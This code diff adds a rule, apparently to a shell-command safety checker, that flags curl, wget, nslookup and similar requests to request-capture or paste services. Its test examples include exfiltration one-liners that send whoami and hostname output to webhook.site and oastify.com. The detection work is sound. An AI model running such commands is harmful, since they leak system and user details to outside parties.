@@ -946,3 +946,26 @@ def http_delete_all(cmd: SimpleCommand, sc: Scope) -> str | None:
         if _WILDCARD_PATH.search(path):
             return f"{cmd.name} sends DELETE to {u}, which selects everything the pattern matches"
     return None
+
+
+@rule(
+    id="net.request-collector",
+    title="Sending a request to a request-capture or paste service",
+    why="curl to webhook.site, interact.sh, requestbin or a paste host delivers whatever the URL, headers or body carry to a stranger; even a GET leaks through its query string.",
+    verdict=ASK,
+    commands=("curl", "wget", "http", "https", "xh", "nslookup", "dig", "host", "ping"),
+    match=("curl https://webhook.site/abc?d=$(whoami)", "wget -q https://x.oast.fun/", "nslookup $(hostname).x.oastify.com"),
+    no_match=("curl -s https://api.github.com/repos/python/cpython", "dig example.com", "curl -s https://pastebin.com/raw/abc"),
+)
+def request_collector(cmd: SimpleCommand, sc: Scope) -> str | None:
+    from .tools import collector_host
+
+    for v in cmd.values():
+        if v.startswith("-"):
+            continue
+        host = url_host(v) if "://" in v else v.split("/")[0].split("@")[-1]
+        host = host.replace(DYN, "x")
+        c = collector_host(host, v) if host else None
+        if c and not sc.trust.host_is_trusted(host):
+            return f"{cmd.name} sends a request to {host}, a service that records what it receives"
+    return None
